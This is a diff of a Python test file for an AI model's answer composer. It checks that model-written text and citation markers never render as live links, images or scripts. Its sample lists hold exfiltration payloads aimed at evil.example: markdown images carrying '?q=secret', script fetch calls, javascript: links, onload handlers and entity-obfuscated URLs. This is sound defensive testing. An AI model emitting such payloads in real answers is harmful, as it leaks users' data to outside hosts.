@@ -7,38 +7,27 @@ import re
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
-from assistant.answering.composer import Composer, Statement
+from assistant.answering.composer import Composer
 from assistant.answering.markers import Marker, MarkerParser, Text
+from assistant.answering.statements import Statement
 from assistant.rendering.html import with_markers
+from tests.support.injections import FORMS, written
 from tests.support.offers import offered, stream
 from tests.support.pages import Page
 
-# Ways in which a model could be made to show or load something from elsewhere (RELIABILITY, 84).
-ACTIVE = [
-    "![x](http://evil.example/?q=secret)",
-    "![x][1]\n\n[1]: http://evil.example/?q=secret",
-    "[click](http://evil.example/)",
-    "[click](javascript:alert(1))",
+ACTIVE = [written(form) for form in FORMS.values()]
+ACTIVE += [
     "[click][1]\n\n[1]: http://evil.example/ 'title'",
-    "<http://evil.example/?q=secret>",
-    "http://evil.example/?q=secret",
-    "www.evil.example/?q=secret",
-    "<img src=http://evil.example/?q=secret>",
-    "<picture><source srcset='http://evil.example/'></picture>",
-    "<div style='background:url(http://evil.example/)'>x</div>",
-    "<style>@import url(http://evil.example/);</style>",
-    "<script>fetch('http://evil.example/')</script>",
-    "<a href='http://evil.example/' onmouseover='alert(1)'>x</a>",
-    "```mermaid\nclick A 'http://evil.example/'\n```",
-    "$$\\href{http://evil.example/}{x}$$",
-    "<!-- x --><svg onload=alert(1)>",
-    "![x\\](http://evil.example/)](http://evil.example/)",
-    "\\![x](http://evil.example/)",
     "&lt;img src=http://evil.example/&gt;",
+    "&#104;ttp://evil.example/",
+    "www&period;evil.example",
+    "ftp://evil.example/x",
+    "HTTP://EVIL.EXAMPLE/",
+    "Www.evil.example",
+    "`<img src=http://evil.example/>`",
     "~~~html\n<img src=http://evil.example/>\n~~~",
-    "    <img src=http://evil.example/>",
-    "| a | b |\n|---|---|\n| ![x](http://evil.example/) | <img src=//evil.example/> |",
 ]
 
 
@@ -115,6 +104,33 @@ def test_items_of_a_list_are_statements_without_their_bullets() -> None:
     assert said["It burnt."] == [3]
 
 
+def test_only_the_bullet_at_a_line_s_beginning_goes() -> None:
+    assert statements("It closed - she said - on Monday ", 1, ".") == [
+        Statement("It closed - she said - on Monday.", [1])
+    ]
+    assert statements("- It closed * at 2) or 3 ", 1, ".") == [
+        Statement("It closed * at 2) or 3.", [1])
+    ]
+
+
+def test_a_marker_alone_between_two_sentences_leaves_them_two() -> None:
+    text, composer = composed("It closed.", 1, "It opened.", 99, "“It rained.”", 2, " It rains.")
+    assert text == "It closed.[^1] It opened. “It rained.”[^2] It rains."
+    assert [said.text for said in composer.statements()] == [
+        "It closed.",
+        "It opened.",
+        "“It rained.”",
+        "It rains.",
+    ]
+
+
+def test_a_marker_within_a_sentence_adds_no_space() -> None:
+    assert (
+        composed("It", 1, "closed at 5.", 2, ".5 or", 3, ".")[0]
+        == "It[^1]closed at 5.[^2].5 or[^3]."
+    )
+
+
 def test_a_marker_after_a_bullet_leaves_the_list_a_list() -> None:
     assert composed("- ", 1, " It closed.")[0] == "- [^1] It closed."
 
@@ -128,6 +144,20 @@ def test_the_marker_none_declines() -> None:
     text, composer = composed("", ())
     assert (text, composer.declined, composer.dropped) == ("", True, 0)
     assert not composed("It closed ", 1, ".")[1].declined
+
+
+def test_the_marker_none_behind_a_statement_says_that_it_is_open() -> None:
+    text, composer = composed("It closed ", 1, ". Why is not said ", (), ".")
+    assert (text, composer.declined) == ("It closed[^1]. Why is not said.", False)
+    assert composer.statements() == [
+        Statement("It closed.", [1]),
+        Statement("Why is not said.", [], open=True),
+    ]
+
+
+def test_the_marker_none_declines_only_before_anything_is_said() -> None:
+    assert composed("\n ", (), " It closed ", 1, ".")[1].declined
+    assert not composed("It closed. ", (), "")[1].declined
 
 
 def test_emphasis_stays() -> None:
@@ -151,7 +181,7 @@ def test_nothing_that_a_model_writes_becomes_active(form: str) -> None:
 @pytest.mark.parametrize("form", ACTIVE)
 def test_nor_does_it_where_readers_make_links_of_addresses(form: str) -> None:
     text = composed(form)[0]
-    assert not re.search(r"://|(?<!\\)[<\[`]|\bwww\.", text)
+    assert not re.search(r"://|(?<!\\)[<\[`]|\bwww\.|&#?\w+;", text, re.IGNORECASE)
 
 
 @pytest.mark.parametrize(
@@ -188,6 +218,31 @@ def test_every_marker_in_the_text_belongs_to_a_statement(parts: list[str | int])
     carried = {number for statement in composer.statements() for number in statement.numbers}
     assert set(shown) == carried == set(composer.cited.values())
     assert list(dict.fromkeys(shown)) == list(range(1, len(carried) + 1))
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        (1, "(http://evil.example/)"),
+        ("!", 1, "(http://evil.example/?q=secret)"),
+        ("!", 1, 99, "", "(", "http://evil.example/)"),
+        ("It closed ", 1, ".\n\n", 1, ": http://evil.example/"),
+        ("It closed ", 1, ".\n", 2, 99, ":", " <http://evil.example/>"),
+        ("It closed ", 1, "{href=http://evil.example/}"),
+        (1, "[1]\n\n[1]: http://evil.example/"),
+    ],
+)
+def test_a_marker_never_becomes_a_link_of_the_model_s(parts: tuple[str | int, ...]) -> None:
+    text = composed(*parts)[0]
+    read = Page(MarkdownIt("commonmark").render(text))
+    assert read.links() == []
+    assert read.threats() == []
+    assert not re.search(r"(?<!\\)\][({:]", text)
+
+
+def test_an_address_right_behind_a_marker_or_an_underscore_is_none() -> None:
+    assert composed("It closed", 1, "www.evil.example")[0] == "It closed[^1]www\\.evil.example"
+    assert composed("_www.evil.example_")[0] == "_www\\.evil.example_"
 
 
 @given(st.text())
